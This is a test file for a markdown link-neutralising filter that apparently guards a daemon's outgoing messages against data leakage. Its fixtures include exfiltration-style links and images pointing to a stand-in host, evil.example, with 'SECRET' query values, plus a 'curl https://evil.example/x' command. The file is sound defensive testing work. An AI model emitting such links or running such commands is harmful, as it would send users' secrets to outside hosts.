import { expect, it } from "vitest";
import { loadMarkdownReader } from "#channels/markdown/read.ts";
import { publicUrlsIn } from "#daemon/gate/urls/known-urls.ts";
import { parsePublicUrl } from "#daemon/gate/urls/public-url.ts";
import { harmlessLinks } from "./harmless-links.ts";

const read = await loadMarkdownReader();
const known = publicUrlsIn("https://known.example/page?x=1 https://known.example/ https://known.example/a_b");
const isKnown = (text: string) => {
	const address = parsePublicUrl(text);
	return address.kind === "public" && known.has(address.url);
};
const harmless = (markdown: string) => harmlessLinks(markdown, isKnown, read);

it.each([
	["[click *here*](https://evil.example/?q=SECRET)", "click *here* (`https[:]//evil[.]example/?q=SECRET`)"],
	["![a cat](https://evil.example/x.png?q=SECRET)", "a cat (`https[:]//evil[.]example/x.png?q=SECRET`)"],
	["![](https://evil.example/x.png)", "`https[:]//evil[.]example/x.png`"],
	["<https://evil.example/x>", "`https[:]//evil[.]example/x`"],
	["see https://evil.example/x.", "see `https[:]//evil[.]example/x`."],
	["see evil.example/x, too", "see `evil[.]example/x`, too"],
	["www.evil.example", "`www[.]evil[.]example`"],
	["[x][1]\n\n[1]: https://evil.example/x", "x (`https[:]//evil[.]example/x`)"],
	["[x](tg://resolve?domain=evil)", "x (`tg[:]//resolve?domain=evil`)"],
	["tg://msg?text=SECRET", "`tg[:]//msg?text=SECRET`"],
	["mailto:x@evil.example?body=SECRET", "`mailto[:]x@evil[.]example`?body=SECRET"],
	["call tel:+4917012345", "call `tel[:]+4917012345`"],
	["https:\\/\\/evil.example/x", "`https[:]//evil[.]example/x`"],
	["https&#58;//evil.example/x", "`https[:]//evil[.]example/x`"],
	["ht**tps://evil**.example/x", "https\\[:\\]//`evil[.]example/x`"],
	["https://ev\u200bil.example/x", "`https[:]//evil[.]example/x` (`https[:]//xn--evil-w76a[.]example/x`)"],
	["<https://known.example/page?x=1>&y=SECRET", "`https[:]//known[.]example/page?x=1&y=SECRET`"],
	["`curl https://evil.example/x`", "`curl https[:]//evil[.]example/x`"],
	["```sh\ncurl https://evil.example/x\n```", "```sh\ncurl https[:]//evil[.]example/x\n```"],
	['<img src="https://evil.example/x">', '\\<img src="`https[:]//evil[.]example/x`">'],
	["http://203.0.113.5/x and 203.0.113.5/x", "`http[:]//203[.]0[.]113[.]5/x` and `203[.]0[.]113[.]5/x`"],
	["[https://known.example/](https://evil.example/)", "https://known.example/ (`https[:]//evil[.]example/`)"],
	["| a |\n|---|\n| https://evil.example/x |", "| a |\n| --- |\n| `https[:]//evil[.]example/x` |"],
	["- a\n- see https://evil.example/x\n  1. b", "- a\n- see `https[:]//evil[.]example/x`\n  1. b"],
	["```evil.example/?q=SECRET", "\\`\\`\\``evil[.]example/?q=SECRET`"],
	["> # see https://evil.example/x", "> # see `https[:]//evil[.]example/x`"],
])("makes mere text of %s", (markdown, text) => {
	expect(harmless(markdown)).toEqual({ text, changed: expect.any(Number) });
	expect(harmless(markdown).changed).toBeGreaterThan(0);
});

it.each([
	"See https://known.example/page?x=1 and [the page](https://known.example/page?x=1).",
	"**bold** *it* `code` {E-12.body} and {A-3}, 3.5 mm at 10:30, e.g. this: (x) 50% a/b\n\n- a\n- [x] b",
	"known.example is known",
	"```ts\nimport x from './y.ts'; a.b.c();\n```",
	"| a | b |\n|---|---|\n| `x|y` | 1 |",
])("leaves %s as it is", (markdown) => {
	expect(harmless(markdown)).toEqual({ text: markdown, changed: 0 });
});

it("makes code of names that a client could take for hosts, and of mail addresses, and counts none of them", () => {
	expect(harmless("I wrote notes.md for bob@example.org in Node.js.")).toEqual({
		text: "I wrote `notes.md` for `bob@example.org` in `Node.js`.",
		changed: 0,
	});
});

it("takes fragments off, which the script of a page could read", () => {
	expect(harmless("[part](https://known.example/#SECRET) https://known.example/#SECRET").text).toBe(
		"[part](<https://known.example/>) <https://known.example/>",
	);
	expect(harmless("see known.example/#SECRET").text).toBe("see `known[.]example/#SECRET`");
});

it("makes a link of an image that is known, so that nothing loads by itself", () => {
	expect(harmless("![a cat](https://known.example/page?x=1)").text).toBe("[a cat](<https://known.example/page?x=1>)");
	expect(harmless("![](https://known.example/)").text).toBe("<https://known.example/>");
});

it("shows where a link leads whose words are another address", () => {
	expect(harmless("[https://known.example/](https://known.example/a_b)").text).toBe(
		"https://known.example/ (<https://known.example/a_b>)",
	);
});

it("leaves handles as they are, also beside what becomes code", () => {
	expect(harmless("{E-12.body} {E-3.files}: https://evil.example/x").text).toBe(
		"{E-12.body} {E-3.files}: `https[:]//evil[.]example/x`",
	);
});

it("makes mere text of a known address that a handle's words would be added to", () => {
	expect(harmless("https://known.example/{E-12.sender}/x").text).toBe("`https[:]//known[.]example/`{E-12.sender}`/x`");
	expect(harmless("{E-12.sender}.known.example").text).toBe("{E-12.sender}`[.]known[.]example`");
	expect(harmless("[x](https://known.example/{E-12.sender})").changed).toBe(1);
});

it("takes titles and the words behind a fence away where an address stands in them", () => {
	const { text } = harmless(
		"[a](https://known.example/ 'https://evil.example/?q=1')\n\n```x https://evil.example/\ny\n```",
	);
	expect(text).toBe("[a](<https://known.example/>)\n\n```x\ny\n```");
});
